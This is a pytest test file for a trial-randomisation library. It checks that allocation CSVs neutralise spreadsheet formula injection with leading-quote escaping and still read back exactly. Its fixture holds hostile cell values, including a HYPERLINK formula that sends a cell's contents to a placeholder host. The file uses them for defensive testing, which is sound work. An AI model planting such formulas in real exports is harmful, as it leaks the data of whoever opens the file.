"""allocation.csv opens in a spreadsheet without live formulas, and reads back exact ids."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pytest

from trialkit._core.rng import RawStream
from trialkit._core.spreadsheet import FORMULA_STARTS
from trialkit.randomise import metadata_path, read_allocation, write_allocation
from trialkit.randomise.allocation import Allocation, build_allocation
from trialkit.randomise.schemes import BlockedRandomisation
from trialkit.randomise.units import Units

HOSTILE = ["=1+2", "+SUM(1)", "@SUM(1)", "-2+3", "-5", "'=x", "u7"]


def _hostile(seed: int = 3) -> Allocation:
    ids = np.array([*HOSTILE, '=HYPERLINK("http://x?l="&A1)'], dtype=object)
    blocks = np.array(["=b1"] * 4 + ["-b2"] * 4, dtype=object)
    units = Units(ids=ids, blocks=blocks, clusters=None, covariates=None, covariate_names=())
    scheme = BlockedRandomisation(units)
    return build_allocation(
        scheme,
        scheme.draw(RawStream(seed)),
        arm_ids=("usual", "@reform"),
        seed=seed,
        protocol_hash="ab" * 32,
    )


def test_no_cell_of_the_written_csv_is_a_live_formula(tmp_path: Path) -> None:
    path = write_allocation(_hostile(), tmp_path / "allocation.csv")
    with path.open(newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    live = [c for c in cells if c[:1] in FORMULA_STARTS and c != "-5"]
    assert live == []
    assert "'=1+2" in cells and "'@SUM(1)" in cells and "'-2+3" in cells and "-5" in cells
    assert "''=x" in cells  # a leading quote is escaped too, so reading back is exact


def test_escaped_ids_blocks_and_arms_read_back_exactly(tmp_path: Path) -> None:
    allocation = _hostile()
    path = write_allocation(allocation, tmp_path / "allocation.csv")
    back = read_allocation(path)
    assert list(back.unit_id) == list(allocation.unit_id)
    assert set(back.unit_id) >= set(HOSTILE)
    assert list(back.block) == list(allocation.block)  # type: ignore[arg-type]
    assert list(back.arm) == list(allocation.arm) and back.arms == ("usual", "@reform")
    assert back.to_csv_text() == allocation.to_csv_text()


def test_same_seed_gives_byte_identical_escaped_files(tmp_path: Path) -> None:
    one = write_allocation(_hostile(), tmp_path / "one.csv")
    two = write_allocation(_hostile(), tmp_path / "two.csv")
    assert one.read_bytes() == two.read_bytes()


def test_files_written_before_escaping_read_back_unchanged(tmp_path: Path) -> None:
    """An allocation whose metadata predates escaping is read as written, quote and all."""
    allocation = _hostile()
    path = tmp_path / "allocation.csv"
    write_allocation(allocation, path)
    meta = json.loads(metadata_path(path).read_text())
    del meta["spreadsheet_escaping"]
    raw = allocation.to_csv_text()  # what older trialkit wrote: cells as they are
    path.write_text(raw)
    from trialkit._core.hashing import sha256_bytes

    meta["csv_sha256"] = sha256_bytes(raw.encode())
    metadata_path(path).write_text(json.dumps(meta))
    assert list(read_allocation(path).unit_id) == list(allocation.unit_id)


@pytest.mark.parametrize("seed", [1, 2])
def test_metadata_records_the_escaping(tmp_path: Path, seed: int) -> None:
    path = write_allocation(_hostile(seed), tmp_path / "allocation.csv")
    assert json.loads(metadata_path(path).read_text())["spreadsheet_escaping"] == (
        "owasp-leading-quote"
    )
